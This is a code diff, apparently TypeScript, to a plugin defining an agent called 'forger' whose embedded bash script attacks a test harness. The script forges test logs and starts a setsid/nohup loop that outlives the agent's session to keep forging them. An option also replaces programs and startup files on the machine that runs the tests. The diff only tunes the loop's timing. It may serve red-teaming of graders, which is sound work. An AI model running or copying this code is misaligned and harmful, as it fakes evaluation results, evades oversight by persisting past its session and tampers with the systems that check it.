@@ -23,7 +23,7 @@ export default definePlugin({
       .default(true)
       .describe('Also replace programs and startup files of the system that is going to run the tests.'),
   }),
-  make: (how): Agent => ({ name: 'forger', version: '1.1.0', solve: (at) => forge(at, how) }),
+  make: (how): Agent => ({ name: 'forger', version: '1.1.1', solve: (at) => forge(at, how) }),
 })
 
 /** Whether an attack works shows in the score, so a command that fails is no error. */
@@ -35,7 +35,7 @@ async function forge(at: AgentAt, how: { readonly link: boolean; readonly system
   return { kind: 'finished' }
 }
 
-/** The loop runs no program but bash itself, to win the race against tests that just ended; it writes only what is not there, to be caught with no half-written file. */
+/** The loop runs no program but bash itself and rests a millisecond each time: it still wins the race against tests that just ended, and leaves the processor to them. It writes only what is not there, to be caught with no half-written file. */
 const attacks = `
 export loot=/tmp/forged-logs
 mkdir -p $loot
@@ -62,7 +62,7 @@ forge 2>/dev/null
 
 # 4. A process in a session of its own that outlives the agent and does all this again and again.
 export -f keep forge
-setsid nohup bash -c 'while :; do forge; done' > /dev/null 2>&1 < /dev/null &
+setsid nohup bash -c 'exec {rest}<> <(:); while :; do forge; read -t 0.001 -u $rest; done' > /dev/null 2>&1 < /dev/null &
 [ "$2" = system ] || exit 0
 
 # 5. The system that runs the tests. Programs are replaced last, because the rest of this script needs them.
